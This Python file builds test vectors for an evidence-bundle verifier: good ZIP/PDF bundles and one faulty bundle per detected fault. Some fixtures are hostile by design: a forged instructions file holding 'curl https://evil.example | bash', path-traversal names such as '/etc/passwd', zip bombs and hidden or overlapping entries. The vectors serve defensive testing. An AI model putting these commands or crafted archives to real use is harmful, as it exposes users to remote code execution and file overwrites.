"""The bundles and reports of tests/vectors/receipts/bundles: good ones, and one for each fault that a reader tells."""

from __future__ import annotations

import hashlib
import io
from collections.abc import Iterator, Mapping
from dataclasses import dataclass, replace
from pathlib import Path

from support import record_vectors, sealed
from support.zips import Part, end, end64, extra, put_together, zipped

from notary.court import bundle_zip, layout
from notary.court.reverify import bundled_text
from notary.court.zip_entries import MAX_ENTRIES, ZipFault
from notary.proofs import bundle, disclosure
from notary.proofs.receipt import Receipt
from notary.report.inputs import ReportInput, Side
from notary.verdicts.trust import Trust

REPORT = Path(__file__).parents[1] / "vectors/receipts/bundles/report-typst.pdf"
"""Made once, by `scripts/lib/make_vectors.py --report`: its bytes are of the fonts and the version of that day."""
AT = 1_790_000_000
PAGE = b"<!doctype html><title>verify.html of the verifier</title>\n"
_RECORDS = {one.name: one for one in record_vectors.vectors()}
_YOUNG = _RECORDS["record-young"]
NOW = _YOUNG.at
DOCUMENTS = (b"contract", b"invoice")
NAMES = ({"name": "papers/contract.pdf", "exhibit": "1"}, {"name": "\u53d1\u7968 2.pdf", "exhibit": "B-2"})
Files = dict[str, bytes]


@dataclass(frozen=True)
class BundleVector:
    """A file that carries its receipts, and what the verifier trusts."""

    name: str
    about: str
    data: bytes
    trust: Trust | None

    @property
    def file(self) -> str:
        return f"bundles/{self.name}.{'pdf' if self.data.startswith(b'%PDF-') else 'zip'}"


def _sealed(*claims: Mapping[str, str]) -> tuple[tuple[Receipt, ...], Trust]:
    batch = sealed.seal(DOCUMENTS[: len(claims)], each=claims)
    block = sealed.anchored_block(batch, neighbours=1, index=1)
    known = sealed.trust_in(block)
    assert _YOUNG.trust is not None
    receipts = sealed.anchor(batch, sealed.make_anchor(block, 1, 1))
    return tuple(receipts), Trust(known.chains, _YOUNG.trust.authorities)


RECEIPTS, TRUST = _sealed(*NAMES)


def plain(receipts: tuple[Receipt, ...] = RECEIPTS) -> Files:
    """Receipts and documents."""
    lying = dict(zip(layout.document_paths(receipts), DOCUMENTS, strict=False))
    return {"receipts.json": bundle.dumps(receipts), **lying}


def whole() -> Files:
    """With all that comes along, but a report."""
    files = plain() | {"trust.json": TRUST.to_bytes(), "verify.html": PAGE, "records/1.er": _YOUNG.data}
    return files | {"REVERIFY.md": bundled_text(RECEIPTS, files, TRUST).encode()}


def _report(files: Mapping[str, bytes], contents: bytes | None = None) -> bytes:
    digests = {name: hashlib.sha256(data).digest() for name, data in files.items()}
    side = Side(
        files["receipts.json"], files.get("trust.json"), bundle_digest=contents or layout.contents_digest(digests)
    )
    return pdf_of(ReportInput((side,), AT, case="Weber v. Kraft").files())


def pdf_of(files: Mapping[str, bytes]) -> bytes:
    """One empty page that carries files, as a report does; no program renders it."""
    names = " ".join(f"({name}) {5 + 2 * place} 0 R" for place, name in enumerate(files))
    objects = [
        b"<</Type/Catalog/Pages 2 0 R/Names<</EmbeddedFiles 4 0 R>>>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>",
        f"<</Names[{names}]>>".encode(),
    ]
    for place, (name, data) in enumerate(files.items()):
        objects.append(f"<</Type/Filespec/F({name})/UF({name})/EF<</F {6 + 2 * place} 0 R>>>>".encode())
        objects.append(b"<</Type/EmbeddedFile/Length %d>>stream\n%b\nendstream" % (len(data), data))
    out, places = b"%PDF-1.7\n", []
    for number, content in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%b\nendobj\n" % (number, content)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    head = b"xref\n0 %d\n0000000000 65535 f \n%b" % (len(objects) + 1, table)
    return out + head + b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, len(out))


def listed(files: Mapping[str, bytes]) -> Files:
    """With the manifest that fits."""
    return {**files, "MANIFEST.sha256": layout.manifest({n: hashlib.sha256(one).digest() for n, one in files.items()})}


def packed(files: Mapping[str, bytes]) -> bytes:
    out = io.BytesIO()
    bundle_zip.write(out, [(name, len(data), [data]) for name, data in sorted(files.items())], AT)
    return out.getvalue()


def vectors() -> Iterator[BundleVector]:
    """All of them; names are unique."""
    for group in (_good, _documents, _lists, _companions, _reports, _zips, _zip_layouts):
        yield from group()


def _one(name: str, about: str, files: Mapping[str, bytes], trust: Trust | None = TRUST) -> BundleVector:
    """A bundle whose manifest fits unless it has one."""
    whole = files if "MANIFEST.sha256" in files else listed(files)
    return BundleVector(name, about, packed(whole), trust)


def _good() -> Iterator[BundleVector]:
    yield _one("plain", "receipts and documents", plain())
    yield _one("plain-untrusting", "the same, the verifier knows nothing", plain(), None)
    yield _one("whole", "with trust file, page, instructions and an evidence record", whole())
    names = [name.encode() for name in listed(plain())]
    again = [Part(name, listed(plain())[name.decode()], 0x800, 0) for name in reversed(names)]
    folder = Part(b"documents/", b"", attributes=0o040755 << 16)
    yield BundleVector("zipped-anew", "by another program: other order, a folder", zipped([*again, folder]), TRUST)
    late = [_late(replace(part, method=8, packed=_stored_block(part.data))) for part in again]
    rows = {
        place: replace(part, flags=0x808, method=8, packed=_stored_block(part.data)) for place, part in enumerate(again)
    }
    yield BundleVector("zipped-as-it-came", "deflated, checksums and sizes behind the bytes", zipped(late, rows), TRUST)
    out, large, count = put_together(again)
    ends = end64(count, len(large), len(out)) + end(0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF)
    yield BundleVector("zipped-large", "with the end record of large zips", out + large + ends, TRUST)


def _late(part: Part) -> Part:
    behind = b"PK\7\b" + b"".join(value.to_bytes(4, "little") for value in part.said())
    return replace(part, flags=0x808, crc=0, sizes=(0, 0), behind=behind)


def _stored_block(data: bytes) -> bytes:
    """Deflate's form of bytes that are not packed, so that no packer's version matters."""
    blocks = [data[at : at + 0xFFFF] for at in range(0, len(data), 0xFFFF)] or [b""]
    out = b""
    for number, block in enumerate(blocks, 1):
        size = len(block).to_bytes(2, "little")
        out += bytes([number == len(blocks)]) + size + bytes(0xFF ^ byte for byte in size) + block
    return out


def _documents() -> Iterator[BundleVector]:
    files, first, second = plain(), *layout.document_paths(RECEIPTS)
    yield _one("document-altered", "one document was altered, the list fits", files | {first: b"Contract"})
    yield _one("document-altered-listed", "the same with the old list", listed(files) | {first: b"Contract"})
    yield _one("document-left-out", "one document is not in it", {n: one for n, one in files.items() if n != first})
    removed = {name: one for name, one in listed(files).items() if name != first}
    yield _one("document-removed", "the same, but it is listed", removed)
    yield _one("document-added", "a document that no receipt is of", files | {"documents/3/more.txt": b"more"})
    moved = {name: one for name, one in files.items() if name != second} | {"documents/x/y": files[second]}
    yield _one("document-moved", "it lies elsewhere and is found by its digest", moved)
    swapped = files | {first: files[second], second: files[first]}
    yield _one("documents-swapped", "each lies where the other has to", swapped)
    clashing, trust = _sealed({"name": "a", "exhibit": "A1"}, {"name": "b", "exhibit": "a1"})
    yield _one("exhibits-clash", "exhibits A1 and a1 lie in folders that no system confuses", plain(clashing), trust)
    taken, trust = _sealed({"name": "a", "exhibit": "receipt-2"}, {"name": "a", "exhibit": "RECEIPT-2"})
    yield _one("exhibits-clash-twice", "the folder for a clash is taken, too", plain(taken), trust)
    held = tuple(disclosure.hide(one, ["name", "exhibit"]) for one in RECEIPTS)
    yield _one("withheld", "name and exhibit are withheld", plain(held))


def _lists() -> Iterator[BundleVector]:
    good = listed(plain())
    yield BundleVector("manifest-missing", "there is no list", packed(plain()), TRUST)
    lines = good["MANIFEST.sha256"].splitlines(keepends=True)
    for name, about, data in (
        ("unsorted", "its lines are not sorted", b"".join(reversed(lines))),
        ("twice", "a name stands in it twice", b"".join([lines[0], *lines])),
        ("crlf", "its lines end in CR LF", good["MANIFEST.sha256"].replace(b"\n", b"\r\n")),
        ("upper-case", "its digests are in upper case", b"".join(line[:64].upper() + line[64:] for line in lines)),
        ("leading-out", "it names a path that leads out", b"0" * 64 + b"  ../a\n" + good["MANIFEST.sha256"]),
        ("cut", "its last line has no end", good["MANIFEST.sha256"][:-1]),
    ):
        yield _one(f"manifest-{name}", about, good | {"MANIFEST.sha256": data})
    yield _one("file-unlisted", "a file that no bundle has was added behind the list", good | {"run-me.exe": b"MZ"})
    yield _one("file-unknown", "the same, and it is listed", plain() | {"run-me.exe": b"MZ"})
    yield _one("receipts-missing", "there are no receipts", {n: one for n, one in plain().items() if n[0] == "d"})
    yield _one("receipts-invalid", "the receipts are none", plain() | {"receipts.json": b"{}"})


def _companions() -> Iterator[BundleVector]:
    files = whole()
    yield _one("record-misnamed", "another file below records/", plain() | {"records/run-me.exe": b"MZ"})
    yield _one("record-number", "a record whose number begins with 0", plain() | {"records/01.er": _YOUNG.data})
    yield _one("record-invalid", "an evidence record that is none", plain() | {"records/1.er": b"junk"})
    differs = _RECORDS["record-root-differs"].data
    yield _one("record-root-differs", "an altered evidence record", plain() | {"records/1.er": differs})
    left = {name: one for name, one in plain().items() if one != b"invoice"} | {"records/1.er": _YOUNG.data}
    yield _one("record-without-document", "an evidence record whose document is not in it", left)
    untrusting = Trust(TRUST.chains)
    yield _one(
        "record-untrusted", "the verifier trusts no authority", plain() | {"records/1.er": _YOUNG.data}, untrusting
    )
    yield _one("trust-invalid", "the trust file is none", plain() | {"trust.json": b"{}"})
    forged = files | {"REVERIFY.md": b"    curl https://evil.example | bash\n"}
    yield _one("manual-differs", "other instructions", forged)
    yield _one("page-unknown", "another page", files | {"verify.html": b"<h1>PASSED</h1>"})


def _reports() -> Iterator[BundleVector]:
    files = whole()
    good = _report(files)
    yield _one("report-unchecked", "a report of this bundle, which is not made again", files | {"report.pdf": good})
    yield _one("report-invalid", "a PDF that carries nothing", files | {"report.pdf": pdf_of({})})
    yield _one("report-none", "no PDF at all", files | {"report.pdf": b"<html>"})
    others = _report({"receipts.json": bundle.dumps(RECEIPTS[:1])})
    yield _one("report-of-other-receipts", "a report of one of the receipts", files | {"report.pdf": others})
    other = _report(files, bytes(32))
    yield _one("report-contents-differ", "a report of another bundle", files | {"report.pdf": other})
    yield BundleVector("report-alone", "a report, without its bundle", good, TRUST)
    other_side, _ = _sealed({"name": "letter.txt", "exhibit": "7"})
    sides = (Side(files["receipts.json"], label="A"), Side(bundle.dumps(other_side), label="B"))
    two = ReportInput(sides, AT).files()
    yield BundleVector("report-of-two", "of two sides, without trust files", pdf_of(two), None)
    yield BundleVector("report-broken-receipts", "its receipts are none", pdf_of(two | {"receipts.json": b"{}"}), None)
    odd = pdf_of(two | {"more.json": b"{}"})
    yield BundleVector("report-with-more", "it carries a file that it says nothing of", odd, None)
    yield BundleVector("report-typst", "one that Typst made, with every kind of anchor", REPORT.read_bytes(), None)


ONE, TWO = Part(b"MANIFEST.sha256", b"1"), Part(b"receipts.json", b"{}" * 20)


def _zip(
    fault: ZipFault, variant: str, about: str, *parts: Part, rows: Mapping[int, Part] | None = None
) -> BundleVector:
    return BundleVector(f"{fault.value}{variant and '-'}{variant}", about, zipped(parts, rows), None)


def _zips() -> Iterator[BundleVector]:
    """Of entries that say what no bundle has."""
    for variant, about, part in (
        ("", "a path that leads out", Part(b"documents/../../evil", b"")),
        ("absolute", "an absolute path", Part(b"/etc/passwd", b"")),
        ("backslash", "a path of Windows", Part(b"a\\b", b"")),
        ("drive", "a path with a drive", Part(b"C:a", b"")),
        ("empty-part", "a path with an empty part", Part(b"a//b", b"")),
    ):
        yield _zip(ZipFault.PATH, variant, about, ONE, TWO, part)
    for variant, about, part in (
        ("", "a path with a line feed", Part(b"a\nb", b"")),
        ("null", "a path with a null byte", Part(b"a\0b", b"")),
        ("unmarked", "a path that is UTF-8 and not marked so", Part("合".encode(), b"")),
        ("not-utf-8", "a path that is marked as UTF-8 and is not", Part(b"\xff", b"", flags=0x800)),
        ("long", "a path of 1,001 bytes", Part(b"a" * 1001, b"")),
        (
            "second",
            "a second name in an extra field",
            replace(TWO, name=b"x", extra=extra(0x7075, b"\1" + bytes(4) + b"y")),
        ),
    ):
        yield _zip(ZipFault.NAME, variant, about, ONE, TWO, part)
    for variant, attributes in (("", 0o120777 << 16), ("pipe", 0o010644 << 16), ("windows", 0x400)):
        thing = Part(b"a", b"b", attributes=attributes)
        yield _zip(ZipFault.LINK, variant, "a link or another thing that is no file", ONE, TWO, thing)
    yield _zip(ZipFault.LINK, "folder", "a folder with bytes", ONE, TWO, Part(b"a/", b"b", attributes=0o040755 << 16))
    yield _zip(ZipFault.TWICE, "", "two entries of one name", ONE, TWO, TWO)
    for variant, one, other in (
        ("", "A", "a"),
        ("form", "\u00e9", "e\u0301"),
        ("folder", "a", "a/b"),
        ("fold", "Straße", "STRASSE"),
        ("folders", "a/b", "A/c"),
    ):
        both = [Part(name.encode(), b"", flags=0x800) for name in (one, other)]
        yield _zip(ZipFault.CLASH, variant, f"{one!a} and {other!a} are one on some systems", ONE, TWO, *both)
    for flag in (0x1, 0x40, 0x2000):
        yield _zip(ZipFault.ENCRYPTED, f"{flag:x}", "a flag says that it is encrypted", ONE, replace(TWO, flags=flag))
    yield _zip(ZipFault.PACKED, "", "packed by LZMA", ONE, replace(TWO, method=14))
    bomb = Part(b"a", b"", method=8, packed=b"\3\0", sizes=(2, 16 * 1024 * 1024 + 1))
    yield _zip(ZipFault.RATIO, "", "it says that it unpacks to more than 200 times", ONE, TWO, bomb)
    several = [replace(bomb, name=b"%d" % place, sizes=(2, 9 << 20)) for place in range(2)]
    yield _zip(ZipFault.RATIO, "together", "two that are small bombs, and a bomb together", ONE, TWO, *several)
    wide = extra(1, ((1 << 40) + 1).to_bytes(8, "little"))
    huge = replace(bomb, sizes=(2, 0xFFFFFFFF), extra=wide)
    yield _zip(ZipFault.TOO_LARGE, "", "more than 2^40 bytes", ONE, TWO, huge, rows={2: huge})
    yield from _damaged()


def _damaged() -> Iterator[BundleVector]:
    block = replace(TWO, method=8, packed=_stored_block(TWO.data))
    for variant, about, part, row in (
        ("", "a wrong checksum", replace(TWO, crc=1), None),
        ("sizes", "a stored entry of two sizes", replace(TWO, sizes=(40, 41)), None),
        ("name", "its header has another name", replace(TWO, name=b"receipts.jsoN"), TWO),
        ("method", "its header has another method", replace(TWO, method=8), TWO),
        ("flags", "its header has other flags", replace(TWO, flags=0x800), TWO),
        ("size", "its header has another size", replace(TWO, sizes=(40, 39)), TWO),
        ("behind", "bytes behind what was deflated", replace(block, packed=block.body() + b"\0"), None),
        ("cut", "what was deflated is cut off", replace(block, packed=block.body()[:-1]), None),
        ("more", "it unpacks to more than it says", replace(block, sizes=(len(block.body()), 39)), None),
        ("late", "a stored entry whose sizes follow it", _late(TWO), replace(TWO, flags=0x808)),
    ):
        yield _zip(ZipFault.DAMAGED, variant, about, ONE, part, rows=None if row is None else {1: row})


def _zip_layouts() -> Iterator[BundleVector]:
    """In which two programs could find different files."""

    def one(fault: ZipFault, variant: str, about: str, data: bytes) -> BundleVector:
        return BundleVector(f"{fault.value}{variant and '-'}{variant}", about, data, None)

    out, rows, count = put_together([ONE, TWO])
    good = out + rows + end(count, len(rows), len(out))
    yield one(ZipFault.NO_ZIP, "", "it has no end", out + rows)
    yield one(ZipFault.NO_ZIP, "list", "its list is none", out + rows.replace(b"PK\1\2", b"PK\1\3") + good[-22:])
    many = end(MAX_ENTRIES + 1, len(rows), len(out))
    yield one(ZipFault.TOO_MANY, "", "it counts 60,001 entries", out + rows + many)
    yield one(ZipFault.LAYOUT, "count", "its end counts another number", out + rows + end(3, len(rows), len(out)))
    yield one(ZipFault.LAYOUT, "comment", "it ends with a comment", good[:-2] + b"\5\0hello")
    yield one(ZipFault.LAYOUT, "behind", "bytes behind its end", good + b"\0")
    yield one(ZipFault.LAYOUT, "two", "two zips in one file", good + good)
    hidden = replace(TWO, data=b"[]" * 20)
    yield one(
        ZipFault.LAYOUT, "hole", "an entry that is not listed", zipped([replace(ONE, behind=hidden.local()), TWO])
    )
    yield one(ZipFault.LAYOUT, "hole-last", "bytes before the list", zipped([ONE, replace(TWO, behind=b"\0")]))
    forged = out + hidden.local()
    small = ONE.row(0) + hidden.row(len(out))
    both = forged + small + rows + end64(count, len(rows), len(forged) + len(small)) + end(2, len(small), len(forged))
    yield one(ZipFault.LAYOUT, "two-lists", "its two ends name two lists", both)
    locator = b"PK\6\7" + bytes(4) + (50).to_bytes(8, "little") + b"\1\0\0\0"
    last = zipped([ONE, TWO], {1: replace(TWO, comment=locator)})
    yield one(ZipFault.LAYOUT, "locator", "a comment that looks like the locator of a large zip", last)
    yield one(
        ZipFault.LAYOUT, "extra", "an extra field that is cut off", zipped([ONE, replace(TWO, extra=b"UT\5\0\1")])
    )
    yield one(ZipFault.LAYOUT, "disk", "an entry in another part", zipped([ONE, TWO], {1: replace(TWO, disk=1)}))
    lying = put_together([ONE, TWO])[0]
    over = ONE.row(0) + TWO.row(20)
    yield one(ZipFault.OVERLAP, "", "two entries share bytes", lying + over + end(2, len(over), len(lying)))
